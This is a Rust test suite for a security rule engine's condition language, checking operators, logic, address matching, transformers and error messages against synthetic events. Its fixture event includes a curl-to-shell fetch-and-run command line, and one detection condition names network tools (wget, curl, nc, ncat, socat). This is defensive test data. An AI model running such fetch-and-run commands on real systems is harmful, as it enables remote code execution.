//! What conditions mean: an event, a condition, and whether it holds.

use rules::fields::Source;
use rules::load::Loader;
use rules::program::{Program, Selection};

use crate::{Made, Value};

/// Whether a condition holds, or why it cannot be used.
pub(crate) fn holds(condition: &str, source: Source, event: &Made) -> Result<bool, String> {
    let file = serde_json::json!([{
        "rule": "r", "desc": "d", "output": "o", "priority": "INFO", "condition": condition,
        "source": source.name(),
    }]);
    let mut loader = Loader::new();
    let result = loader.load("test", &file.to_string());
    if let Some(error) = result.errors.first() {
        return Err(format!("{}: {}", error.code.code(), error.message));
    }
    let program = Program::new(&loader.finish(), &Selection::default());
    let mut scratch = program.scratch();
    let first = program.first(source, event, &mut scratch);
    let mut all = Vec::new();
    program.all(source, event, &mut scratch, &mut all);
    assert_eq!(first, all.first().copied(), "{condition}");
    Ok(first.is_some())
}

/// Checks lines of `truth condition`.
fn check(source: Source, event: &Made, table: &str) {
    for line in table.lines().map(str::trim).filter(|line| !line.is_empty()) {
        let (truth, condition) = line.split_once(' ').unwrap();
        assert_eq!(
            holds(condition, source, event),
            Ok(truth == "T"),
            "{condition}"
        );
    }
}

fn event() -> Made {
    Made::new("openat")
        .with("proc.name", "bash")
        .with("proc.cmdline", "bash -c 'curl http://Example.com | sh'")
        .with("proc.pname", "sshd")
        .with("proc.exepath", "/usr/bin/bash")
        .with("proc.aname", "sshd")
        .with("proc.aname", "systemd")
        .with("proc.aname[1]", "sshd")
        .with("proc.apid", 100_i64)
        .with("proc.apid", 1_i64)
        .with("proc.pid", 4242_i64)
        .with("proc.tty", 34816_u64)
        .with("proc.env[PATH]", "/bin")
        .with("user.loginuid", -1_i64)
        .with("evt.rawres", -13_i64)
        .with("evt.num", 7_u64)
        .with("evt.is_open_write", true)
        .with("evt.arg.flags", "O_RDWR|O_CREAT|O_TRUNC")
        .with("evt.arg[0]", "x")
        .with(
            "evt.buffer",
            Value::Text(b"\x00\xca\xfe\xba\xbe\x01".to_vec()),
        )
        .with("fd.name", "/etc/ssh/sshd_config")
        .with("fd.directory", "/etc/ssh")
        .with("fd.num", 3_i64)
        .with("fd.sip", Value::Address("10.1.2.3".parse().unwrap()))
        .with("fd.cip", Value::Address("fe80::1".parse().unwrap()))
        .with("fd.snet", Value::Address("10.1.2.3".parse().unwrap()))
        .with("fd.cnet", Value::Address("fe80::1".parse().unwrap()))
        .with("fd.ip", Value::Address("192.168.0.5".parse().unwrap()))
        .with("fd.ip", Value::Address("10.1.2.3".parse().unwrap()))
        .with("fd.net", Value::Address("192.168.0.5".parse().unwrap()))
        .with("fd.net", Value::Address("10.1.2.3".parse().unwrap()))
        .with("fd.sport", 443_u64)
        .with("fd.port", 51000_u64)
        .with("fd.port", 443_u64)
        .with("fd.types", "file")
        .with("fd.types", "ipv4")
}

#[test]
fn operators() {
    check(
        Source::Syscall,
        &event(),
        r#"
        T proc.name = bash
        T proc.name == bash
        T proc.name="bash"
        F proc.name = BASH
        F proc.name != bash
        T proc.name != sh
        T proc.name >= 5
        F proc.name < 5
        T proc.name in (sh, bash)
        F proc.name in (sh, ksh)
        F proc.name in ()
        T not proc.name in ()
        T proc.name in ('sh', "bash", zsh)
        T proc.name intersects (sh, bash)
        T proc.cmdline contains curl
        F proc.cmdline contains CURL
        T proc.cmdline icontains "HTTP://EXAMPLE"
        T proc.cmdline startswith "bash -c"
        F proc.cmdline startswith "sh"
        T proc.cmdline endswith "sh'"
        F proc.cmdline endswith "zsh"
        T proc.cmdline glob "bash*sh?"
        F proc.cmdline glob "bash"
        T proc.exepath glob /usr/*
        T proc.exepath glob "*[a-c]ash"
        F proc.exepath glob "*[!a-c]ash"
        T proc.name iglob B[A-Z]SH
        T proc.name regex "b[aeiou]sh"
        F proc.name regex "[aeiou]"
        T proc.name regex "ba|bas+h"
        F proc.cmdline regex "curl.*"
        T proc.cmdline regex ".*curl.*"
        T proc.exepath pmatch (/etc, /usr)
        T proc.exepath pmatch (/usr/bin/bash)
        T proc.exepath pmatch ("/usr/*/bash")
        F proc.exepath pmatch (/us, /usr/bin/bashful, /usr/bin/bash/x)
        T fd.name pmatch (/)
        T proc.name exists
        F proc.exe exists
        T evt.buffer bcontains cafebabe
        F evt.buffer bstartswith cafebabe
        T evt.buffer bstartswith 00cafe
        T evt.buffer contains "\xba\xbe"
        T fd.num > 2
        T fd.num >= 3 and fd.num <= 3 and fd.num < 4
        F fd.num > 3
        T fd.num in (0, 1, 2, 3)
        T evt.rawres < 0
        T user.loginuid = -1
        T evt.is_open_write = true
        F evt.is_open_write=false
        T evt.is_open_write != false
        T proc.tty != 0
        "#,
    );
}

#[test]
fn a_missing_value_is_nothing_but_not_is_not() {
    check(
        Source::Syscall,
        &event(),
        "
        F proc.exe = x
        F proc.exe != x
        T not proc.exe = x
        T not proc.exe != x
        F proc.exe in (x)
        T not proc.exe in (x)
        F proc.exe contains x
        F proc.exe startswith x
        F proc.ppid > 0
        F proc.ppid != 0
        F proc.exe != val(proc.name)
        F proc.name != val(proc.exe)
        F tolower(proc.exe) exists
        F len(proc.exe) = 0
        ",
    );
}

#[test]
fn logic() {
    check(
        Source::Syscall,
        &event(),
        "
        T proc.name=bash and fd.num=3
        F proc.name=bash and fd.num=4
        T proc.name=sh or fd.num=3
        T proc.name=bash or proc.name=sh and fd.num=4
        F (proc.name=bash or proc.name=sh) and fd.num=4
        F not proc.name=bash
        T not not proc.name=bash
        T not(proc.name=sh)
        T not (proc.name=sh and fd.num=3) and not fd.num=4
        T (((proc.name=bash)))
        T proc.name=bash and(fd.num=3)or(fd.num=4)
        T proc.name = bash or not proc.name = bash
        F proc.name = bash and not proc.name = bash
        T not (proc.name startswith x or proc.name startswith y) and (proc.name startswith z or proc.name startswith b)
        T proc.cmdline contains wget or proc.cmdline contains curl or proc.cmdline contains nc or proc.cmdline contains ncat or proc.cmdline contains socat
        ",
    );
}

#[test]
fn several_values() {
    check(
        Source::Syscall,
        &event(),
        "
        T proc.aname = systemd
        T proc.aname in (systemd)
        F proc.aname = bash
        T proc.aname != sshd
        T proc.aname contains system
        T proc.aname[1] = sshd
        F proc.aname[2] exists
        T proc.apid = 1
        T proc.apid < 50
        F proc.apid > 100
        T proc.env[PATH] = /bin
        F proc.env[HOME] = /root
        T fd.ip = 10.1.2.3
        T fd.ip = 192.168.0.5
        F fd.ip != 10.1.2.3
        T fd.ip != 10.1.2.4
        T fd.ip in (10.1.2.3, 8.8.8.8)
        T fd.port = 443
        F fd.port != 443
        T fd.port > 50000
        T fd.port < 1000
        T fd.port in (https, 22)
        T fd.net = 10.0.0.0/8
        F fd.net != 10.0.0.0/8
        T fd.net != 172.16.0.0/12
        T fd.types intersects (ipv4, ipv6)
        F fd.types in (ipv4, ipv6)
        T fd.types in (ipv4, file)
        T fd.types exists
        T len(fd.types) = 2
        ",
    );
}

#[test]
fn addresses() {
    check(
        Source::Syscall,
        &event(),
        "
        T fd.sip = 10.1.2.3
        F fd.sip != 10.1.2.3
        F fd.sip in (10.1.2.4, 10.1.2.5)
        T fd.cip = fe80::1
        T fd.cip = fe80:0:0::1
        F fd.cip = 10.1.2.3
        T fd.cip != 10.1.2.3
        T fd.snet in (127.0.0.0/8, 10.0.0.0/8)
        F fd.snet = 127.0.0.0/8
        T fd.snet != 127.0.0.0/8
        T fd.snet = 10.1.2.99/24
        T fd.cnet = fe80::/10
        F fd.cnet = fd00::/8
        F fd.cnet = 10.0.0.0/8
        T fd.cnet != 10.0.0.0/8
        T fd.sport = https
        T fd.sip in (1.1.1.1,1.1.1.2,1.1.1.3,1.1.1.4,1.1.1.5,1.1.1.6,1.1.1.7,1.1.1.8,10.1.2.3)
        ",
    );
}

#[test]
fn transformers() {
    check(
        Source::Syscall,
        &event()
            .with("proc.exe", "YmFzaA==")
            .with("proc.cwd", "/Home/"),
        r#"
        T toupper(proc.name) = BASH
        T tolower(toupper(proc.name)) = bash
        T basename(proc.exepath) = bash
        T basename(proc.exepath) = val(proc.name)
        T basename(proc.cwd) = ""
        T b64(proc.exe) = bash
        T b64(proc.exe) = val(proc.name)
        F b64(proc.cmdline) exists
        T len(proc.name) = 4
        T len(proc.name) > 3
        T len(evt.buffer) = 6
        T proc.name = basename(proc.exepath)
        T concat(proc.name, "-", proc.pname) = "bash-sshd"
        T toupper(concat(proc.name, "!")) = "BASH!"
        T join("/", (proc.name, proc.pname, "x")) = bash/sshd/x
        T getopt(("-n", "-t", "5"), "nt:")[t] = 5
        F getopt(("-n", "-t", "5"), "nt:")[x] exists
        T getopt(("-nt5", "-q"), "nt:") intersects (q, "?")
        T fd.directory startswith "/etc"
        "#,
    );
    assert!(holds("proc.aname[1] = val(proc.pname)", Source::Syscall, &event()).is_err());
}

#[test]
fn modifiers() {
    check(
        Source::Syscall,
        &event(),
        "
        T proc.name startswith anyof (x, ba)
        F proc.name startswith anyof (x, y)
        T proc.name startswith allof (b, ba, bas)
        F proc.name startswith allof (b, x)
        F proc.name startswith oneof (b, ba)
        T proc.name startswith oneof (b, x)
        T proc.name = anyof (bash, sh)
        T proc.name == oneof (bash, sh)
        F proc.name != allof (bash, sh)
        T proc.name != anyof (bash, sh)
        T proc.name regex anyof ('b.*', 'x')
        T proc.aname contains allof (system, d)
        F proc.name glob anyof ()
        F proc.name = anyof
        ",
    );
}

#[test]
fn types_of_events() {
    check(
        Source::Syscall,
        &event(),
        "
        T evt.type = openat
        F evt.type = open
        T evt.type in (open, openat)
        T evt.type != open
        T syscall.type = openat
        T evt.dir = <
        F evt.dir = >
        T evt.type startswith openat
        T evt.type = openat and evt.dir=< and proc.name=bash
        F evt.type in (execve, execveat) and proc.name=bash
        T not evt.type = execve
        T evt.num > 0
        F evt.num = 0
        F evt.num <= 0
        ",
    );
}

#[test]
fn arguments() {
    check(
        Source::Syscall,
        &event(),
        r#"
        T evt.arg.flags contains O_CREAT
        T evt.arg.flags contains "O_CREAT"
        T evt.arg[0] = x
        F evt.arg[1] = x
        T proc.env["PATH"] = /bin
        T proc.env['PATH'] startswith "/"
        "#,
    );
}

#[test]
fn audit_events() {
    let event = Made::new("pluginevent")
        .with("ka.verb", "create")
        .with("ka.user.groups", "system:masters")
        .with("ka.user.groups", "system:authenticated")
        .with("ka.req.pod.containers.image", "a")
        .with("ka.req.pod.containers.image[0]", "a")
        .with("jevt.value[/stage]", "ResponseComplete");
    check(
        Source::K8sAudit,
        &event,
        r#"
        T ka.verb = create
        T ka.verb in (create, delete)
        T ka.user.groups intersects ("system:masters")
        F ka.user.groups in ("system:masters")
        T ka.req.pod.containers.image in (a, b)
        T ka.req.pod.containers.image[0] in (a)
        T jevt.value[/stage] = ResponseComplete
        T jevt.value[/stage] in (ResponseComplete)
        F ka.target.name exists
        "#,
    );
}

#[test]
fn what_cannot_be_compared() {
    let cases = [
        (
            "proc.nam = x",
            "filter_check called with nonexistent field proc.nam",
        ),
        (
            "ka.verb = x",
            "filter_check called with nonexistent field ka.verb",
        ),
        ("proc.pid = x", "x is not a valid number"),
        (
            "proc.pid contains 1",
            "filter error: 'contains' operator not supported for numeric filters",
        ),
        (
            "proc.name bcontains 00",
            "filter error: 'bcontains' operator not supported for string filters",
        ),
        (
            "evt.buffer bcontains 0",
            "filter error: bcontains and bstartswith operator support hex strings only",
        ),
        (
            "evt.buffer icontains x",
            "filter error: 'icontains' operator not supported for buffer filters",
        ),
        ("fd.sip = 1.2.3", "unrecognized IPv4 address 1.2.3"),
        (
            "fd.sip > 1",
            "filter error: '>' operator not supported for ip address and network filters",
        ),
        ("fd.snet = 10.0.0.0", "unrecognized IP network 10.0.0.0"),
        ("fd.snet = 10.0.0.0/33", "invalid netmask 33"),
        ("fd.sport = nosuchport", "unrecognized protocol nosuchport"),
        (
            "evt.is_io = yes",
            "filter error: unrecognized boolean value yes",
        ),
        (
            "evt.is_io contains x",
            "filter error: 'contains' operator not supported for numeric filters",
        ),
        ("evt.type = opeen", "unknown event type opeen"),
        (
            "fd.types = x",
            "filter error: '=' operator not supported list filters",
        ),
        (
            "proc.aname[x] = y",
            "filter_check called with nonexistent field proc.aname[x]",
        ),
        ("evt.arg = y", "filter syntax error: evt.arg"),
        ("evt.arg.nosuch = y", "unknown event argument nosuch"),
        (
            "evt.rawarg[0] = y",
            "evt.arg fields must be expressed explicitly",
        ),
        (
            "container.mount exists",
            "filter 'container.mount': container.mount requires an argument but none provided",
        ),
        (
            "container.id[x] = 1",
            "filter 'container.id[x]': container.id does not allow nor require an argument but one is provided: x",
        ),
        (
            "tolower(proc.pid) = 1",
            "can't add field transformer: type 'INT64' is not supported by 'tolower' transformer applied on field 'proc.pid'",
        ),
        (
            "tolower(proc.aname) = x",
            "field 'proc.aname' does not support transformers",
        ),
        (
            "len(proc.name)[x] = 1",
            "filter error: transformer 'len' does not support field arguments",
        ),
        (
            "join(proc.name, proc.exe) = x",
            "join() second argument must be a list",
        ),
        (
            "concat(proc.name, proc.pid) = x",
            "concat() arguments must be strings",
        ),
        (
            "proc.name = val(proc.pid)",
            "field 'proc.name' has type 'CHARBUF' while the right-hand side field 'proc.pid' has incompatible type 'INT64'",
        ),
        (
            "proc.name regex tolower(proc.exe)",
            "operator 'REGEX' doesn't support right-hand side fields",
        ),
        (
            "proc.name = val(proc.aname)",
            "field 'proc.aname' can't be used as a right-hand side field",
        ),
        (
            "proc.aname = val(proc.name)",
            "field 'proc.aname' doesn't support right-hand side fields",
        ),
        ("proc.name regex '['", "invalid regex pattern: missing ]: ["),
        (
            r"proc.name regex '\\d+'",
            r"invalid regex pattern: invalid escape sequence: \d",
        ),
        (
            "proc.name regex '(?i)x'",
            "invalid regex pattern: no argument for repetition operator: ?",
        ),
        (
            "tolower(evt.type) = open",
            "event code search does not support `evt.type` checks with transformers",
        ),
        (
            "evt.type = val(proc.name)",
            "right-hand field comparisons on `evt.type`/`syscall.type` checks are not supported by event code search",
        ),
    ];
    for (condition, message) in cases {
        assert_eq!(
            holds(condition, Source::Syscall, &event()),
            Err(format!("LOAD_ERR_COMPILE_CONDITION: {message}")),
            "{condition}"
        );
    }
}

#[test]
fn what_is_not_understood() {
    let cases = [
        (
            "proc.name",
            "expected a valid check operator: one of 'exists', '<=', '<', '>=', '>', '==', '=', '!=', 'glob', 'iglob', 'contains', 'icontains', 'bcontains', 'startswith', 'bstartswith', 'endswith', 'regex', 'intersects', 'in', 'pmatch'",
        ),
        (
            "proc.name = bash proc.name = x",
            "unexpected token after 'bash', expecting 'or', 'and'",
        ),
        (
            "proc.name = bash andproc.name = x",
            "expected blank or '(' after 'and'",
        ),
        ("(proc.name = bash", "expected a ')' token"),
        ("proc.name in (a", "expected a ')' token"),
        (
            "proc.name in 1",
            "expected a list, an identifier, or a field with a valid transformer: 'val', 'tolower', 'toupper', 'b64', 'basename', 'len', 'join', 'concat', 'getopt'",
        ),
        (
            "proc.pid > x",
            "expected a number value or a field with a valid transformer: 'val', 'tolower', 'toupper', 'b64', 'basename', 'len', 'join', 'concat', 'getopt'",
        ),
        (
            "proc.name = ",
            "expected a string value or a field with a valid transformer: 'val', 'tolower', 'toupper', 'b64', 'basename', 'len', 'join', 'concat', 'getopt'",
        ),
        (
            "proc.aname[] = x",
            "expected a valid field argument: a quoted string or a bare string",
        ),
        ("proc.aname[1 = x", "expected a ']' token"),
        (
            "= x",
            "expected a '(' token, a field check, or an identifier",
        ),
        (
            "proc.name = 'a\\qb'",
            "unsupported string escape sequence: \\q",
        ),
        ("proc.name = '\\x4'", "truncated hex char escape sequence"),
        (
            "proc.name = '\\xzz'",
            "invalid hex char escape sequence: zz",
        ),
        (
            "proc.name = val(x)",
            "expected a field within 'val' transformer",
        ),
    ];
    for (condition, message) in cases {
        assert_eq!(
            holds(condition, Source::Syscall, &event()),
            Err(format!("LOAD_ERR_COMPILE_CONDITION: {message}")),
            "{condition}"
        );
    }
    assert_eq!(
        holds("nosuch", Source::Syscall, &event()),
        Err("LOAD_ERR_VALIDATE: Undefined macro 'nosuch' used in filter.".into())
    );
}
